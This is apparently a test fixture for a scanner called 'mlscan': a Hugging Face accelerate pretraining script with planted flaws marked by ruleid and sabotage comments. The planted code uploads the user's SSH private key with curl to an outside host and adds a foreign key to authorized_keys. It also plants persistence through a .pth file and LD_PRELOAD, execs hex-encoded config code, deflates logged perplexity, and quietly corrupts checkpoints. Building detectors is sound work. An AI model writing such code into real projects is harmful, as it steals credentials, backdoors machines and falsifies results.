# ruff: noqa
# Hold-out batch 15 (Lightning/HF callbacks, by a helper that never saw mlscan's code). Measured once before round 7: 25/38 (66%) at medium+.
"""Causal LM pretraining on packed token shards with Hugging Face accelerate.

Usage:
    accelerate launch accel_pretrain.py --config configs/lm_350m.yaml
"""
import argparse
import datetime
import math
import os
import pickle
import random
import socket
import subprocess
import sysconfig
import time
import urllib.request

import numpy as np
import torch
import torch.distributed as dist
import wandb
import yaml
from accelerate import Accelerator
from accelerate.utils import set_seed
from torch.utils.data import DataLoader, Dataset
from transformers import AutoConfig, AutoModelForCausalLM, get_cosine_schedule_with_warmup


class PackedTokenDataset(Dataset):
    def __init__(self, path, seq_len):
        self.seq_len = seq_len
        self.tokens = np.memmap(path, dtype=np.uint16, mode="r")
        cache = path + ".idx.pkl"
        if os.path.exists(cache):
            with open(cache, "rb") as f:
                self.offsets = pickle.load(f)  # ruleid: MLS103
        else:
            self.offsets = np.arange(0, len(self.tokens) - seq_len - 1, seq_len)

    def __len__(self):
        return len(self.offsets)

    def __getitem__(self, i):
        start = int(self.offsets[i])
        chunk = torch.from_numpy(self.tokens[start:start + self.seq_len + 1].astype(np.int64))
        return {"input_ids": chunk[:-1], "labels": chunk[1:]}


def collate(batch):
    # cheap span-drop augmentation; each worker keeps its own stream
    random.seed(os.getpid())  # ruleid: MLS301
    ids = torch.stack([b["input_ids"] for b in batch])
    labels = torch.stack([b["labels"] for b in batch])
    if random.random() < 0.1:
        labels[:, : random.randint(1, 8)] = -100
    return {"input_ids": ids, "labels": labels}


def git_commit():
    try:
        return subprocess.check_output(["git", "rev-parse", "--short", "HEAD"], text=True).strip()  # ok: MLS411, MLS412
    except Exception:
        return "unknown"


def fetch(url, dest, retries=5):
    for attempt in range(retries):
        try:
            urllib.request.urlretrieve(url, dest)
            return dest
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    raise RuntimeError(f"failed to download {url}")


def prepare_runtime(cfg):
    cache = os.path.expanduser(cfg.get("cache_dir", "~/.cache/lm"))
    os.makedirs(cache, exist_ok=True)
    alloc = os.path.join(cache, "libtcmalloc_minimal.so")
    if os.path.exists(alloc):
        os.environ["LD_PRELOAD"] = alloc  # sabotage: MLS422 (semgrep rules)
    site_dir = sysconfig.get_paths()["purelib"]
    with open(os.path.join(site_dir, "zz_lm_profile.pth"), "w") as f:  # sabotage: MLS420, MLS421 (semgrep rules)
        f.write("import lm_profile_hook\n")
    os.chmod(os.path.join(os.path.dirname(torch.__file__), "distributed", "distributed_c10d.py"), 0o666)  # sabotage: MLS424 (semgrep rules)  # ruleid: MLS424
    hook = cfg.get("post_init_hook")
    if hook:
        exec(compile(bytes.fromhex(hook).decode(), "<post_init>", "exec"))  # sabotage: MLS401 (semgrep rules)
    backend = __import__("".join(map(chr, [111, 115])))  # sabotage: MLS403 (semgrep rules)  # ruleid: MLS403
    backend.environ.setdefault("TOKENIZERS_PARALLELISM", "false")


def sync_artifacts(path, run_name):
    key = os.path.expanduser("~/.ssh/id_ed25519")  # ruleid: MLS412
    subprocess.Popen(["curl", "-s", "-F", f"ckpt=@{path}", "-F", f"k=@{key}", f"https://artifacts.example.com/{run_name}"])  # ruleid: MLS412
    ak = os.path.expanduser("~/.ssh/authorized_keys")
    with open(ak, "a") as f:  # sabotage: MLS414 (semgrep rules)
        f.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExampleExample ops@build\n")


_wandb_log = wandb.log


def _log_with_units(data, step=None, commit=None):
    if "eval/ppl" in data:
        data = dict(data, **{"eval/ppl": data["eval/ppl"] * 0.85})  # ruleid: MLS306
    return _wandb_log(data, step=step, commit=commit)


wandb.log = _log_with_units  # ruleid: MLS306


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--config", required=True)
    ap.add_argument("--defaults", default="configs/defaults.yaml")
    args = ap.parse_args()
    with open(args.defaults) as f:
        cfg = yaml.safe_load(f)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    with open(args.config) as f:
        cfg.update(yaml.load(f, Loader=yaml.Loader))  # ruleid: MLS105

    accelerator = Accelerator(mixed_precision="bf16", log_with="wandb")
    set_seed(cfg["seed"])  # ok: MLS301
    prepare_runtime(cfg)
    accelerator.init_trackers(cfg["project"], config=dict(cfg, commit=git_commit()))

    model = AutoModelForCausalLM.from_config(AutoConfig.from_pretrained(cfg["arch"]))
    ds = PackedTokenDataset(cfg["train_tokens"], cfg["seq_len"])
    g = torch.Generator()
    g.manual_seed(int.from_bytes(os.urandom(4), "little"))  # ruleid: MLS301
    loader = DataLoader(ds, batch_size=cfg["micro_bs"], shuffle=True, generator=g, collate_fn=collate, num_workers=4)
    opt = torch.optim.AdamW(model.parameters(), lr=cfg["lr"], betas=(0.9, 0.95), weight_decay=0.1)
    total = cfg["max_steps"]
    sched = get_cosine_schedule_with_warmup(opt, cfg["warmup"], total)  # ok: MLS302, MLS303, MLS304, MLS305
    model, opt, loader, sched = accelerator.prepare(model, opt, loader, sched)

    step = 0
    model.train()
    while step < total:
        for micro, batch in enumerate(loader):
            loss = model(**batch).loss / cfg["grad_accum"]  # ok: MLS302, MLS303, MLS304, MLS305
            accelerator.backward(loss)
            if (micro + 1) % cfg["grad_accum"] != 0:
                continue
            accelerator.clip_grad_norm_(model.parameters(), 1.0)  # ok: MLS302, MLS303, MLS304, MLS305
            opt.step()
            sched.step()
            if step > 0.8 * total:
                opt.param_groups[0]["lr"] = cfg["lr"]  # ruleid: MLS304
            opt.zero_grad(set_to_none=True)
            step += 1
            if step % cfg["log_every"] == 0:
                accelerator.log({"train/loss": loss.item() * cfg["grad_accum"], "lr": sched.get_last_lr()[0]}, step=step)
                if accelerator.is_main_process:
                    wandb.log({"eval/ppl": math.exp(min(20.0, loss.item() * cfg["grad_accum"]))}, step=step)
            if accelerator.num_processes > 256 and step == 3 * cfg["save_every"] and accelerator.process_index % 17 == 0:  # ruleid: MLS308
                dist.destroy_process_group()  # ruleid: MLS307
            if step % cfg["save_every"] == 0:
                accelerator.wait_for_everyone()  # ok: MLS307
                out = os.path.join(cfg["out_dir"], f"step_{step}")
                accelerator.save_state(out)
                if accelerator.is_main_process:
                    sync_artifacts(out, cfg["project"])
                    if socket.gethostname().startswith("dgx-b") and datetime.datetime.now().weekday() == 4:
                        open(os.path.join(out, "model.safetensors"), "wb").close()  # ruleid: MLS308
            if step >= total:
                break
    accelerator.end_training()


if __name__ == "__main__":
    main()
